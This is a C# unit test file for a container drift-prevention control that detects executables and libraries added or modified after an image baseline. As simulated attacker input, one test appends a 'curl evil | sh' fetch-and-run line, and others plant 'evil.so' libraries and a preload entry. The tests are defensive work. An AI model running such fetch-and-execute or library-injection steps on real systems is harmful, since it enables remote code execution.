using MicroEnforcer.Baseline;
using MicroEnforcer.Controls;
using MicroEnforcer.Interop;
using MicroEnforcer.Policy;
using Xunit;

namespace MicroEnforcer.Tests.Controls;

/// <summary>
/// Drift prevention against a real baseline: a temporary directory stands for the image's root,
/// its start mark is taken and its baseline walked and hashed as PID 1 does it, and every exec
/// target is the real file, opened and described as the entry check does (an O_PATH descriptor,
/// its statx, its path through /proc/self/fd). Which mode the control is in is the decider's
/// concern: the control objects the same way in both.
/// </summary>
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class DriftPreventionTests : IDisposable
{
    // As an image layer has it: long before the start (the content stamps vouch only for such mtimes).
    private static readonly DateTime ImageTime = new(2024, 1, 2, 3, 4, 5, DateTimeKind.Utc);

    private const string Script = "#!/bin/sh\necho image\n";

    private readonly string _root = Directory.CreateTempSubdirectory("microenforcer-drift-").FullName;
    private readonly List<int> _fds = [];
    private BaselineRecording? _recording;

    public void Dispose()
    {
        foreach (int fd in _fds)
            Libc.Close(fd);
        _recording?.Dispose();
        Directory.Delete(_root, recursive: true);
    }

    private static DriftPreventionPolicy Policy(EnforcementMode mode = EnforcementMode.Enforce, params string[] allowed) =>
        new(true, mode, [.. allowed.Select(Glob)]);

    private static PathGlob Glob(string pattern)
    {
        Assert.True(PathGlob.TryParse(pattern, out PathGlob? glob, out string error), error);
        return glob;
    }

    private DriftPrevention Drift(DriftPreventionPolicy? policy = null, FileSignature? launcher = null) =>
        new(policy ?? Policy(), _recording!, launcher);

    /// <summary>An executable as the image has it: made before the start, with an old mtime.</summary>
    private string ImageFile(string relative, string content = Script, UnixFileMode mode = (UnixFileMode)0x1ed)
    {
        string path = Path.Combine(_root, relative);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, content);
        File.SetUnixFileMode(path, mode);
        File.SetLastWriteTimeUtc(path, ImageTime);
        return path;
    }

    /// <summary>An executable made now (after the start, when the mark is taken).</summary>
    private string NewFile(string relative, string content = Script)
    {
        string path = Path.Combine(_root, relative);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllText(path, content);
        File.SetUnixFileMode(path, (UnixFileMode)0x1ed);
        return path;
    }

    /// <summary>The workload starts: the start mark, after everything made so far (see StartMarkTests.TakeMark).</summary>
    private BaselineRecording Start()
    {
        Thread.Sleep(20);   // past the coarse clock's tick
        _recording = BaselineRecording.Begin(_root);
        if (!_recording.Mark.IsExact)
        {
            _recording.Dispose();
            Thread.Sleep(1100);   // a filesystem stamped in whole seconds: the mark is its second
            _recording = BaselineRecording.Begin(_root);
        }
        Assert.Null(_recording.Mark.CannotVouchReason);
        Assert.Null(_recording.Mark.MtimesCannotVouchReason);   // these tests need a temporary directory where mtimes vouch
        return _recording;
    }

    /// <summary>
    /// The baseline is walked, published and hashed on the "baseline" thread, as behind the
    /// workload; <paramref name="onRecorded"/> runs once it is published, before it is hashed.
    /// </summary>
    private void RecordAndHash(Action<ImageBaseline>? onRecorded = null)
    {
        Exception? failure = null;
        using var over = new ManualResetEventSlim();
        _recording!.Start(new HashSet<string>(), _ => { }, e => failure ??= e, baseline => onRecorded?.Invoke(baseline), _ => { },
            () => over.Set());
        Assert.True(over.Wait(TimeSpan.FromSeconds(30)), "the baseline was not hashed in 30 s");
        Assert.Null(failure);
        Assert.NotNull(_recording.Recorded);
    }

    /// <summary>The exec target as the entry check describes it: the file opened O_PATH as the caller would, then its statx.</summary>
    private ExecTarget Target(string path) => Describe(Open(path), path);

    private int Open(string path)
    {
        int fd = ExecPathResolver.Open(Environment.ProcessId, Libc.AT_FDCWD, PathText.Encode(path), 0);
        Assert.True(fd >= 0, $"{path}: {fd}");
        _fds.Add(fd);
        return fd;
    }

    private static ExecTarget Describe(int fd, string path)
    {
        ExecTarget? target = ExecPathResolver.Describe(Environment.ProcessId, fd, path);
        Assert.NotNull(target);
        return target;
    }

    private static FileSignature Stat(string path)
    {
        Assert.Equal(0, FileSignature.TryRead(path, out FileSignature signature));
        return signature;
    }

    /// <summary>A rewrite that keeps the size: only the content (and so the mtime and ctime) differs.</summary>
    private static void RewriteSameSize(string path)
    {
        string evil = "#!/bin/sh\necho PWNED\n";
        Assert.Equal(new FileInfo(path).Length, evil.Length);
        using var stream = new FileStream(path, FileMode.Open, FileAccess.Write);
        stream.Write(System.Text.Encoding.ASCII.GetBytes(evil));
    }

    private static void AssertDrift(ControlFinding? finding, string reason)
    {
        Assert.NotNull(finding);
        Assert.Equal("drift", finding.Control);   // the audit event's name for the control
        Assert.Equal(DriftPrevention.ControlName, finding.Control);
        Assert.Equal(reason, finding.Reason);
        Assert.False(finding.AwaitsBaseline);
        Assert.Null(finding.Remote);
    }

    [Fact]
    public void AnImageFileUntouchedSinceTheBaselineIsAllowed()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash();
        ExecTarget target = Target(tool);

        Assert.Null(Drift().Evaluate(target));
        // The untouched signature settles it: the content is not read (here it could not be).
        Assert.Null(Drift().Evaluate(target with { ContentPath = Path.Combine(_root, "gone") }));
    }

    [Theory]
    [InlineData(EnforcementMode.Enforce)]
    [InlineData(EnforcementMode.Audit)]
    public void AFileCreatedAfterTheBaselineIsDriftInEitherMode(EnforcementMode mode)
    {
        ImageFile("bin/tool");
        Start();
        RecordAndHash();
        string download = NewFile("tmp/payload");

        DriftPrevention drift = Drift(Policy(mode));

        AssertDrift(drift.Evaluate(Target(download)), "not in the image baseline");
        Assert.Equal(mode, drift.Mode);   // the decider reads the mode from the control, not from the finding
        Assert.Equal("drift", drift.Name);
    }

    [Fact]
    public void AFileCreatedAfterTheStartButBeforeTheWalkReachedItIsDrift()
    {
        ImageFile("bin/tool");
        Start();
        string early = NewFile("bin/early");   // the walk runs behind the workload: it finds this one, changed since the mark
        RecordAndHash();

        Assert.True(_recording!.Recorded!.Find(early)!.Value.ChangedBeforeRecorded);
        AssertDrift(Drift().Evaluate(Target(early)),
            "created or modified after the workload started, before the image baseline recorded it");
    }

    [Fact]
    public void AFileGrownAfterTheBaselineIsDrift()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash();
        File.AppendAllText(tool, "curl evil | sh\n");

        AssertDrift(Drift().Evaluate(Target(tool)), "modified since the image baseline (size changed)");
    }

    [Fact]
    public void AFileRewrittenInPlaceAtItsSizeIsDriftByItsContent()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash();
        Assert.NotNull(_recording!.Recorded!.Find(tool)!.Value.Hash);
        RewriteSameSize(tool);

        AssertDrift(Drift().Evaluate(Target(tool)), "content differs from the image baseline");
    }

    [Fact]
    public void AChmodAfterTheHashIsNotDriftTheContentSettlesIt()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash();
        File.SetUnixFileMode(tool, (UnixFileMode)0x1c0);   // chmod 700: a new ctime, the same content
        Assert.False(Stat(tool).IsUntouchedSince(_recording!.Recorded!.Find(tool)!.Value.Signature));

        Assert.Null(Drift().Evaluate(Target(tool)));
    }

    [Fact]
    public void AChmodBeforeTheHashIsVouchedForByTheUnchangedMtime()
    {
        string tool = ImageFile("bin/tool");
        Start();
        // Recorded, not hashed: what the stamps say is all there is until the hasher gets there.
        _recording!.RecordBeforeStart(new HashSet<string>(), _ => { });
        File.SetUnixFileMode(tool, (UnixFileMode)0x1c0);
        Assert.Null(_recording.Recorded!.Find(tool)!.Value.Hash);

        Assert.Null(Drift().Evaluate(Target(tool)));
    }

    [Fact]
    public void AContentChangeBeforeTheHashIsDrift()
    {
        string tool = ImageFile("bin/tool");
        Start();
        _recording!.RecordBeforeStart(new HashSet<string>(), _ => { });
        RewriteSameSize(tool);   // a new mtime: the stamps cannot vouch

        AssertDrift(Drift().Evaluate(Target(tool)), "changed since the image baseline before its image content was hashed");
    }

    [Fact]
    public void AFileChangedBeforeTheHasherReachedItHasNoKnownImageContent()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash(onRecorded: _ => RewriteSameSize(tool));   // between the walk and the hash

        BaselineEntry entry = _recording!.Recorded!.Find(tool)!.Value;
        Assert.Null(entry.Hash);
        AssertDrift(Drift().Evaluate(Target(tool)),
            $"changed since the image baseline, and the image content is unknown ({entry.HashUnavailableReason})");
        Assert.Equal("changed after start, before it was hashed", entry.HashUnavailableReason);
    }

    [Fact]
    public void WhatTheStampsVouchedForIsDriftOnceTheyAreRevoked()
    {
        string tool = ImageFile("bin/tool");
        Start();
        File.SetUnixFileMode(tool, (UnixFileMode)0x1c0);   // chown/chmod in the entrypoint: recorded on the stamps' word
        const string why = "a process ran in the container outside the filter";
        RecordAndHash(onRecorded: _ => Assert.True(_recording!.RevokeStamps(why)));

        Assert.Equal(why, _recording!.Recorded!.Find(tool)!.Value.RevokedReason);
        AssertDrift(Drift().Evaluate(Target(tool)),
            $"changed since the image baseline before its image content was hashed, and the mtime cannot vouch for it: {why}");
    }

    [Fact]
    public void WithoutARevocationTheSameChmodBeforeTheWalkIsAllowed()
    {
        // The counterpart of the test above: what makes it drift there is the revocation alone.
        string tool = ImageFile("bin/tool");
        Start();
        File.SetUnixFileMode(tool, (UnixFileMode)0x1c0);
        RecordAndHash();

        Assert.Null(_recording!.Recorded!.Find(tool)!.Value.RevokedReason);
        Assert.Null(Drift().Evaluate(Target(tool)));
    }

    [Fact]
    public void AllowedExecutablesExemptADriftedFileAndOnlyThose()
    {
        ImageFile("bin/tool");
        Start();
        RecordAndHash();
        string plugin = NewFile("opt/plugins/a/run");
        string other = NewFile("opt/other/run");

        DriftPrevention drift = Drift(Policy(EnforcementMode.Enforce, _root + "/opt/plugins/**"));

        Assert.Null(drift.Evaluate(Target(plugin)));
        AssertDrift(drift.Evaluate(Target(other)), "not in the image baseline");
        AssertDrift(Drift(Policy(EnforcementMode.Enforce, _root + "/opt/plugins/*")).Evaluate(Target(plugin)), "not in the image baseline");
    }

    [Fact]
    public void AnAllowedExecutableIsMatchedByItsCanonicalPathNotTheNameItIsRunBy()
    {
        ImageFile("bin/tool");
        Start();
        RecordAndHash();
        string payload = NewFile("tmp/payload");
        string link = Path.Combine(_root, "opt/allowed/run");
        Directory.CreateDirectory(Path.GetDirectoryName(link)!);
        File.CreateSymbolicLink(link, payload);

        AssertDrift(Drift(Policy(EnforcementMode.Enforce, _root + "/opt/allowed/**")).Evaluate(Target(link)), "not in the image baseline");
    }

    [Fact]
    public void TheLaunchersOwnBinaryIsNotDriftWhereverItLives()
    {
        ImageFile("bin/tool");
        Start();
        RecordAndHash();
        string launcher = NewFile("volume/microenforcer");   // mounted from a volume: never in the image baseline
        FileSignature atStart = Stat(launcher);
        string copy = Path.Combine(_root, "tmp/microenforcer");
        Directory.CreateDirectory(Path.GetDirectoryName(copy)!);
        File.Copy(launcher, copy);

        DriftPrevention drift = Drift(launcher: atStart);

        Assert.Null(drift.Evaluate(Target(launcher)));
        AssertDrift(drift.Evaluate(Target(copy)), "not in the image baseline");   // a copy is another file
        AssertDrift(Drift().Evaluate(Target(launcher)), "not in the image baseline");   // without the signature, it is drift like any other
    }

    [Fact]
    public void TheLaunchersBinaryModifiedSinceTheStartIsDrift()
    {
        ImageFile("bin/tool");
        Start();
        RecordAndHash();
        string launcher = NewFile("volume/microenforcer");
        FileSignature atStart = Stat(launcher);
        Thread.Sleep(20);   // past the coarse clock's tick: the write gets a later ctime
        RewriteSameSize(launcher);

        AssertDrift(Drift(launcher: atStart).Evaluate(Target(launcher)), "not in the image baseline");
    }

    [Fact]
    public void BeforeTheBaselineIsRecordedAFileTheMarkProvesUntouchedIsAllowed()
    {
        string tool = ImageFile("bin/tool");
        Start();

        Assert.Null(_recording!.Recorded);
        Assert.Null(Drift().Evaluate(Target(tool)));
    }

    [Fact]
    public void BeforeTheBaselineIsRecordedAnyOtherFileAwaitsItAndIsDecidedByIt()
    {
        string tool = ImageFile("bin/tool");
        Start();
        string made = NewFile("tmp/payload");
        File.SetUnixFileMode(tool, (UnixFileMode)0x1c0);   // only its metadata changed: the baseline will vouch for it

        DriftPrevention drift = Drift();
        ControlFinding? waiting = drift.Evaluate(Target(made));
        ControlFinding? chmodded = drift.Evaluate(Target(tool));

        foreach (ControlFinding? finding in new[] { waiting, chmodded })
        {
            Assert.NotNull(finding);
            Assert.Equal("drift", finding.Control);
            Assert.True(finding.AwaitsBaseline);
            Assert.Equal("not provably an image file before the image baseline is recorded", finding.Reason);
        }

        // Once recorded, the same execs are decided again, and the baseline's verdict stands.
        RecordAndHash();
        AssertDrift(drift.Evaluate(Target(made)), "created or modified after the workload started, before the image baseline recorded it");
        Assert.Null(drift.Evaluate(Target(tool)));
    }

    [Fact]
    public void ADeletedFileIsDriftEvenBeforeTheBaselineIsRecorded()
    {
        string tool = ImageFile("bin/tool");
        Start();
        int fd = Open(tool);   // opened, then unlinked: what fexecve of a deleted file runs
        File.Delete(tool);
        ExecTarget target = Describe(fd, tool);

        Assert.Equal(0u, target.Signature.LinkCount);
        AssertDrift(Drift().Evaluate(target), "the file was deleted: it is not an image file");
    }

    [Fact]
    public void WhatIsNotARegularFileIsLeftToTheKernel()
    {
        ImageFile("bin/tool");
        Start();
        RecordAndHash();
        Directory.CreateDirectory(Path.Combine(_root, "new-dir"));

        Assert.Null(Drift().Evaluate(Target(Path.Combine(_root, "new-dir"))));   // execve answers EACCES on its own
    }

    [Fact]
    public void ADisabledControlHasNoObjection()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash();
        string made = NewFile("tmp/payload");
        File.AppendAllText(tool, "x");
        var off = new DriftPrevention(new DriftPreventionPolicy(false, EnforcementMode.Enforce, []), _recording!);

        Assert.False(off.Enabled);
        Assert.Null(off.Evaluate(Target(made)));
        Assert.Null(off.Evaluate(Target(tool)));
        Assert.Null(off.EvaluateLibrary(Target(made)));
        Assert.Null(off.EvaluateLibrary(Target(Path.Combine(_root, "tmp"))));   // not a regular file: drift as a library, when on
        Assert.Null(off.EvaluateLibraryDirectory(Path.Combine(_root, "tmp"), Stat(Path.Combine(_root, "tmp"))));
        Assert.NotNull(Drift().Evaluate(Target(made)));   // enabled, the same file is drift
    }

    [Fact]
    public void AFileThatCannotBeReadToCompareIsDrift()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash();
        File.SetUnixFileMode(tool, (UnixFileMode)0x1c0);   // the signature moved: the content must be read
        ExecTarget target = Target(tool);
        DriftPrevention drift = Drift();

        Assert.Null(drift.Evaluate(target));
        // The same file, signature and all, where its content can no longer be read (the caller's
        // /proc link is gone). A verdict on a signature a moment old is not kept, so it is read again.
        ControlFinding? finding = drift.Evaluate(target with { ContentPath = Path.Combine(_root, "gone") });
        AssertDrift(finding, $"changed since the image baseline and cannot be read to compare: {Libc.DescribeErrno(Libc.ENOENT)}");
    }

    [Fact]
    public void AContentVerdictOnASettledSignatureIsKept()
    {
        string tool = ImageFile("bin/tool");
        Start();
        RecordAndHash();
        File.SetUnixFileMode(tool, (UnixFileMode)0x1c0);
        Thread.Sleep(2100);   // the chmod's ctime is now some seconds old: the signature is settled
        ExecTarget target = Target(tool);
        Assert.True(target.Signature.IsSettled);
        DriftPrevention drift = Drift();

        Assert.Null(drift.Evaluate(target));
        // Not read again: the verdict is kept for this signature (a chmod'ed binary is hashed once, not per exec).
        Assert.Null(drift.Evaluate(target with { ContentPath = Path.Combine(_root, "gone") }));
        // Another instance has no such verdict.
        Assert.NotNull(Drift().Evaluate(target with { ContentPath = Path.Combine(_root, "gone") }));
    }

    [Fact]
    public void ALibraryTheMarkProvesUntouchedNeedsNoExecuteBitNorBaseline()
    {
        string library = ImageFile("lib/libx.so", mode: (UnixFileMode)0x1a4);   // 0644, as Debian installs them: not in the baseline
        Start();
        RecordAndHash();
        string injected = NewFile("tmp/evil.so");

        Assert.Null(_recording!.Recorded!.Find(library));
        Assert.Null(Drift().EvaluateLibrary(Target(library)));
        AssertDrift(Drift().EvaluateLibrary(Target(injected)), "not in the image baseline");
    }

    [Fact]
    public void ALibraryNeverWaitsForTheBaseline()
    {
        string library = ImageFile("lib/libx.so", mode: (UnixFileMode)0x1a4);
        Start();
        string injected = NewFile("tmp/evil.so");

        Assert.Null(Drift().EvaluateLibrary(Target(library)));
        // Nothing waits at the exec event: the objection stands as it is.
        AssertDrift(Drift().EvaluateLibrary(Target(injected)), "not provably an image file before the image baseline is recorded");
        Assert.True(Drift().Evaluate(Target(injected))!.AwaitsBaseline);   // as an executable, it would wait
    }

    [Fact]
    public void ALibraryThatIsNotARegularFileIsDriftUnlessAllowed()
    {
        Directory.CreateDirectory(Path.Combine(_root, "lib"));
        Start();
        RecordAndHash();
        ExecTarget directory = Target(Path.Combine(_root, "lib"));

        AssertDrift(Drift().EvaluateLibrary(directory), "not a regular file");
        Assert.Null(Drift(Policy(EnforcementMode.Enforce, _root + "/lib")).EvaluateLibrary(directory));
    }

    [Fact]
    public void ALibraryDirectoryMustBeAnImageDirectoryWithNoNameAddedSinceTheStart()
    {
        ImageFile("lib/libx.so", mode: (UnixFileMode)0x1a4);
        ImageFile("opt/lib/liby.so", mode: (UnixFileMode)0x1a4);
        Start();
        string lib = Path.Combine(_root, "lib"), added = Path.Combine(_root, "opt/lib");
        NewFile("opt/lib/libevil.so");   // a name added: the directory's ctime moves past the mark
        string made = Path.Combine(_root, "tmp");
        Directory.CreateDirectory(made);
        DriftPrevention drift = Drift();

        Assert.Null(drift.EvaluateLibraryDirectory(lib, Stat(lib)));
        const string notImage = "not an image directory unchanged since the start (on the image's root filesystem, no name added, removed or renamed in it since)";
        AssertDrift(drift.EvaluateLibraryDirectory(added, Stat(added)), notImage);
        AssertDrift(drift.EvaluateLibraryDirectory(made, Stat(made)), notImage);
        AssertDrift(drift.EvaluateLibraryDirectory(lib + "/libx.so", Stat(lib + "/libx.so")), "not a directory");
        Assert.Null(Drift(Policy(EnforcementMode.Enforce, _root + "/tmp")).EvaluateLibraryDirectory(made, Stat(made)));
    }

    [Fact]
    public void AnUntouchedImageFileIsTheImagesAndAChangedOneIsNot()
    {
        string preload = ImageFile("etc/ld.so.preload", mode: (UnixFileMode)0x1a4);
        string other = ImageFile("etc/other", mode: (UnixFileMode)0x1a4);
        Start();
        File.AppendAllText(other, "/tmp/evil.so\n");

        Assert.True(Drift().IsUntouchedImageFile(Stat(preload)));
        Assert.False(Drift().IsUntouchedImageFile(Stat(other)));
    }
}
